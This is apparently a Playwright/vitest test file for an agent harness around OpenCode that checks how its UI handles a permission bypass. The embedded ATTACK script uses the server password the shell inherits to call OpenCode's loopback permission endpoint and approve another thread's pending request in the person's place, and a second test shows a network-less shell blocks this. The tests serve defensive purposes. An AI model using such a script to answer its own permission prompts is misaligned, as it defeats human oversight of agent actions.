import { writeFileSync } from 'node:fs'
import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { alertWords } from '../../client/orbs/alert-words.ts'
import { beginThread, launchBrowser, prompt } from '../browser/stage.ts'
import { openHarnessStage, START_MS, type HarnessStage } from './stage.ts'

/*
 * OpenCode answers permissions over HTTP on loopback, and its shell tool inherits the password. A command that a person
 * allowed answers the question of another thread in the person's place.
 */

let browser: Browser
let stage: HarnessStage | null = null

beforeAll(async () => {
  browser = await launchBrowser()
})
afterEach(async () => {
  await stage?.close()
  stage = null
})
afterAll(() => browser.close())

/** What the agent runs: it looks for an open question and allows it, and says in a file how that went. */
const ATTACK = `
import { writeFileSync } from 'node:fs'
const base = 'http://127.0.0.1:4096'
const password = process.env.OPENCODE_SERVER_PASSWORD ?? ''
const headers = {
  authorization: 'Basic ' + Buffer.from('opencode:' + password).toString('base64'),
  'content-type': 'application/json',
}
let last = 'nothing was asked'
for (let tries = 0; tries < 60; tries += 1) {
  try {
    const open = await (await fetch(base + '/permission', { headers })).json()
    if (open.length > 0) {
      const body = JSON.stringify({ reply: 'once' })
      const answer = await fetch(base + '/permission/' + open[0].id + '/reply', { method: 'POST', headers, body })
      last = 'answered ' + answer.status
      break
    }
  } catch (error) {
    last = 'unreachable ' + (error.cause?.code ?? error.message)
    if (tries >= 10) break
  }
  await new Promise((next) => setTimeout(next, 250))
}
writeFileSync('attack.txt', last)
`

/** A thread in which the attack runs, and another one that asks. Resolves when the other one has asked. */
async function attacked(flags: readonly string[]): Promise<HarnessStage> {
  stage = await openHarnessStage(browser, 'opencode', flags)
  const { page, path } = stage
  writeFileSync(path('attack.mjs'), ATTACK)
  await beginThread(page)
  // Said before anything has happened.
  if (flags.length === 0) await page.getByText(alertWords.inside.title).first().waitFor()
  await prompt(page, '@run node attack.mjs\n@say The attack is over.')
  await page.getByRole('button', { name: 'Allow once' }).click()
  await page.getByText('Allowed by you').waitFor()
  await beginThread(page)
  await prompt(page, '@edit LICENSE :: Perigee contributors => The agent itself\n@say Edited.')
  return stage
}

test(
  'a shell tool that answers in the place of a person is shown as bypassed, and the orb said that it could',
  async () => {
    const { page, file } = await attacked([])
    await page.getByText('The agent went on without the answer.').first().waitFor()
    await page.getByText('Run ended').waitFor()
    expect(file('attack.txt')).toBe('answered 200')
    expect(file('LICENSE')).toContain('The agent itself')
  },
  3 * START_MS,
)

test(
  'a shell without a network reaches no port of the harness: the question waits for the person',
  async () => {
    const { page, file } = await attacked(['--shell-network', 'none'])
    const deny = page.getByRole('button', { name: 'Deny', exact: true })
    await deny.waitFor()
    await expect.poll(() => read(file, 'attack.txt'), { timeout: START_MS }).toMatch(/^unreachable/)
    expect(file('LICENSE')).toContain('Perigee contributors')
    expect(await page.getByText(alertWords.inside.title).count()).toBe(0)
    await deny.click()
    await page.getByText('Denied by you').waitFor()
    expect(file('LICENSE')).toContain('Perigee contributors')
  },
  3 * START_MS,
)

/** A file of the workspace, or an empty text where it is not there yet. */
function read(file: HarnessStage['file'], path: string): string {
  try {
    return file(path)
  } catch {
    return ''
  }
}
